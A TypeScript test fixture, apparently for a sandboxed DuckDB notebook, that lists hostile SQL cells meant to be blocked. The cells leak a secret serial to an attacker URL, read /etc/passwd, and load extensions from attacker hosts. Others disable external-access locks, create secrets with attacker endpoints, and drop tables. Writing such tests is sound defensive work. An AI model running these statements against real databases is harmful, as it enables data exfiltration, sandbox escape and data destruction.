/** What a weapon's record in the reader's page holds, and nobody else may learn. */
export const secret = "SN-4711-0815";

/** The sensitive records, as a cell of the notebook. */
export const records = `\`\`\`data id=trace_records
serial,state
${secret},QMA
\`\`\`
`;

/**
 * SQL that tries to send the serial number away, to read what it was not given, to write, to load code or to undo the
 * locks. `url` is the attacker's server. Each is a cell of its own.
 */
export function statements(url: string): readonly string[] {
  const serial = "(SELECT any_value(serial) FROM trace_records)";
  const address = `'${url}/leak.csv?d=' || ${serial}`;
  const remote = [`${url}/a.csv`, "https://attacker.example/a.csv", "s3://attacker/a.csv", "hf://datasets/a/b.csv"];
  const readers = ["read_csv", "read_csv_auto", "read_text", "read_blob", "read_parquet", "read_json", "glob"];
  return [
    ...remote.flatMap((file) => readers.map((read) => `FROM ${read}('${file}')`)),
    ...remote.map((file) => `FROM '${file}'`),
    ...readers.map((read) => `SET VARIABLE u = ${address}; FROM ${read}(getvariable('u'))`),
    `SET VARIABLE many = ['${url}/1.csv', ${address}]; FROM read_csv(getvariable('many'))`,
    `CREATE MACRO leak(u) AS TABLE FROM read_csv(u); FROM leak('${url}/macro.csv')`,
    `CREATE MACRO inner_leak() AS (SELECT count(*) FROM read_text('${url}/scalar.txt')); SELECT inner_leak()`,
    `CREATE VIEW hidden AS FROM read_csv('${url}/view.csv'); FROM hidden`,
    `CREATE TABLE copied AS FROM read_csv('${url}/table.csv')`,
    `FROM query('FROM read_csv(''${url}/query.csv'')')`,
    `FROM query_table('${url}/query-table.csv')`,
    `PREPARE p AS FROM read_csv(?); EXECUTE p('${url}/prepared.csv')`,
    `FROM read_csv('/etc/passwd', header = false)`,
    "FROM read_text('../../data/arms_totals.csv')",
    "FROM read_text('local/*')",
    "FROM glob('*')",
    "FROM glob('/**')",
    "FROM read_blob('opfs://*')",
    `COPY trace_records TO '${url}/copied.csv'`,
    "COPY trace_records TO 'stolen.csv'",
    "COPY trace_records TO '/tmp/stolen.csv'",
    "COPY trace_records TO 'opfs://stolen.csv'",
    `CREATE TEMP TABLE filled (a INT, b INT); COPY filled FROM '${url}/from.csv'`,
    "EXPORT DATABASE 'stolen'",
    `EXPORT DATABASE '${url}/stolen'`,
    `IMPORT DATABASE '${url}/given'`,
    `ATTACH '${url}/a.duckdb' AS other`,
    "ATTACH 'https://attacker.example/a.duckdb' AS far (READ_ONLY)",
    "ATTACH 'opfs://kept.duckdb' AS kept",
    `ATTACH 'postgres:host=attacker.example' AS pg (TYPE postgres)`,
    "ATTACH ':memory:' AS free; COPY free.main.t TO 'x.csv'",
    "DETACH memory",
    "INSTALL httpfs",
    `INSTALL spatial FROM '${url}'`,
    "INSTALL h3 FROM community",
    "FORCE INSTALL json",
    "LOAD httpfs",
    `LOAD '${url}/evil.duckdb_extension.wasm'`,
    `SET custom_extension_repository = '${url}'`,
    "SET autoload_known_extensions = true",
    "SET autoinstall_known_extensions = true",
    "SET enable_external_access = true",
    "RESET enable_external_access",
    "SET lock_configuration = false",
    "SET GLOBAL allowed_directories = ['/']",
    `SET allowed_paths = ['${url}/a.csv']`,
    "SET allow_unsigned_extensions = true",
    "SET allow_community_extensions = true",
    `SET home_directory = '/'`,
    `SET temp_directory = '${url}/tmp'`,
    `SET http_proxy = '${url}'`,
    `SET log_query_path = '${url}/log'`,
    "SET memory_limit = '100GB'",
    "PRAGMA enable_profiling = 'json'",
    "PRAGMA profiling_output = 'stolen.json'",
    `PRAGMA log_query_path = '${url}/log'`,
    "PRAGMA disable_object_cache",
    "SET disabled_filesystems = ''",
    `CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b', ENDPOINT '${url}')`,
    `CREATE PERSISTENT SECRET t (TYPE http, BEARER_TOKEN 'a', SCOPE '${url}')`,
    `CALL pragma_query('${url}')`,
    `FROM sniff_csv('${url}/sniffed.csv')`,
    `FROM parquet_metadata('${url}/a.parquet')`,
    `FROM read_ndjson_objects('${url}/a.ndjson')`,
    `FROM read_xlsx('${url}/a.xlsx')`,
    `FROM st_read('${url}/a.shp')`,
    `FROM sqlite_scan('${url}/a.db', 't')`,
    `FROM postgres_scan('host=attacker.example', 'public', 't')`,
    `FROM iceberg_scan('${url}/a')`,
    `FROM delta_scan('${url}/a')`,
    `SELECT http_get('${url}/get')`,
    `SELECT getenv('HOME')`,
    "SELECT now() AT TIME ZONE 'Asia/Shanghai'",
    "SELECT date_trunc('day', now())",
    `UPDATE arms_totals SET iso3 = 'QMA'`,
    "DROP TABLE arms_totals",
    "CREATE OR REPLACE TABLE arms_totals AS SELECT 1 AS a",
    "CREATE TEMP VIEW arms_totals AS SELECT 1 AS a",
  ];
}
